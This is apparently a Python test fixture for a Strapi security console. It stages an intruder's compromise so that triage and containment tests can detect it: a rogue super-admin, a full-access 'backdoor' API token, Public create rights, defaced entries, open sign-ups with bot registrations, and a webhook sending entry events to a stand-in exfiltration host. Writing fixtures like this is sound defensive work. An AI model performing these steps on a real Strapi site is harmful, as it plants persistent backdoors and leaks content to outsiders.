"""Stage a compromise on a real Strapi (shared by the triage and containment tests): a stranger admin
created, a full-access API token created and used, a transfer token, Public given create, entries created
by the Public role, a webhook to an unknown host, sign-up opened and a burst of sign-ups."""

from __future__ import annotations

import secrets
from dataclasses import dataclass, field

from strapi_console import permissions
from strapi_console.client import StrapiClient
from strapi_console.config import Profile

ARTICLE = "api::article.article"
UNKNOWN_HOST = "exfil.unknown-host.example.net"


@dataclass
class Staged:
    stranger_email: str = ""
    stranger_password: str = ""
    stranger_id: int = 0
    token_name: str = ""
    token_id: int = 0
    token_key: str = field(default="", repr=False)
    transfer_name: str = ""
    webhook_name: str = ""
    webhook_id: int = 0
    public_id: int = 0
    entries: list[str] = field(default_factory=list)
    signups: int = 0
    stranger_creds: object = field(default=None, repr=False)


async def _super_admin_role(c: StrapiClient) -> int:
    roles = (await c.get("/admin/roles"))["data"]
    return next(r["id"] for r in roles if r.get("code") == "strapi-super-admin")


async def stage(url: str, root: StrapiClient, major: int, *, signups: int = 6) -> Staged:
    """Each step as an intruder would do it; returns what the tests look for."""
    s = Staged()
    tag = secrets.token_hex(3)
    s.stranger_email, s.stranger_password = f"stranger-{tag}@evil.example.net", f"Str-{secrets.token_urlsafe(10)}-9a"
    created = (await root.call("POST", "/admin/users", json_body={
        "firstname": "Mallory", "lastname": "Stranger", "email": s.stranger_email,
        "roles": [await _super_admin_role(root)]}))["data"]
    s.stranger_id = created["id"]
    await root.call("POST", "/admin/register", auth=False, json_body={
        "registrationToken": created["registrationToken"],
        "userInfo": {"firstname": "Mallory", "lastname": "Stranger", "password": s.stranger_password}})
    stranger = StrapiClient(Profile("stranger", url))
    async with stranger:
        s.stranger_creds = await stranger.login(s.stranger_email, s.stranger_password)
        s.token_name = f"backdoor-{tag}"
        body = {"name": s.token_name, "type": "full-access", "lifespan": None, "description": ""}
        made = (await stranger.call("POST", "/admin/api-tokens", json_body=body))["data"]
        s.token_id, s.token_key = made["id"], made["accessKey"]
        # the token is used
        resp = await stranger.http.send("GET", "/api/articles", headers={"Authorization": f"Bearer {s.token_key}"})
        assert resp.status == 200, resp.status
        s.transfer_name = f"pull-{tag}"
        await stranger.call("POST", "/admin/transfer/tokens", json_body={
            "name": s.transfer_name, "permissions": ["push", "pull"], "lifespan": None, "description": ""})
        # Public given create
        public = await permissions.role_by_type(stranger, "public")
        s.public_id = public.id
        await stranger.call("PUT", f"/users-permissions/roles/{public.id}",
                            json_body=public.body_with({f"{ARTICLE}.create": True}))
        # entries created by the Public role
        for i in range(2):
            title = f"defaced {tag} {i}"
            data = {"title": title} if major == 5 else {"title": title, "publishedAt": None}
            resp = await stranger.http.send("POST", "/api/articles", json_body={"data": data})
            assert resp.status in (200, 201), (resp.status, resp.body[:300])
            s.entries.append(title)
        # a webhook to an unknown host
        s.webhook_name = f"sync-{tag}"
        hook = (await stranger.call("POST", "/admin/webhooks", json_body={
            "name": s.webhook_name, "url": f"https://{UNKNOWN_HOST}/collect?k=stolen-{tag}", "headers": {},
            "events": ["entry.create", "entry.update"]}))["data"]
        s.webhook_id = hook["id"]
        # sign-up opened, then a burst of sign-ups
        settings = await permissions.read_advanced(stranger)
        await stranger.call("PUT", "/users-permissions/advanced", json_body={**settings, "allow_register": True,
                                                                              "email_confirmation": False})
        for i in range(signups):
            resp = await stranger.http.send("POST", "/api/auth/local/register", json_body={
                "username": f"bot{tag}{i}", "email": f"bot{tag}{i}@evil.example.net",
                "password": f"Bot-{secrets.token_urlsafe(8)}-1"})
            assert resp.status == 200, (resp.status, resp.body[:300])
            s.signups += 1
    return s
